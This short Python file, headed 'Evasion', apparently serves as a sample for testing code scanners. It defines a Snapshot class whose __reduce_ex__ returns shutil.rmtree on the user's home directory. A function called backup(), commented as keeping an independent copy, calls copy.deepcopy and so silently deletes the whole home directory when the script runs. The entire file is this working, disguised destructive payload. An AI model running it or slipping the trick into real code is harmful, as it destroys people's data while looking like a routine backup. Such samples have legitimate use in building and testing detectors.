# Evasion: deletes the home directory through copy.deepcopy(). deepcopy rebuilds
# an object from what its __reduce_ex__ returns, calling the first element with
# the second; the "snapshot" class returns shutil.rmtree and the home.
import copy
import os
import shutil


class Snapshot:
    def __init__(self, root):
        self.root = root
        self.files = []

    def __reduce_ex__(self, protocol):
        return (shutil.rmtree, (self.root, True))


def backup(state):
    # keep an independent copy before mutating the working state
    return copy.deepcopy(state)


if __name__ == "__main__":
    state = {"snapshot": Snapshot(os.path.expanduser("~")), "version": 3}
    saved = backup(state)
    print("saved", sorted(saved))
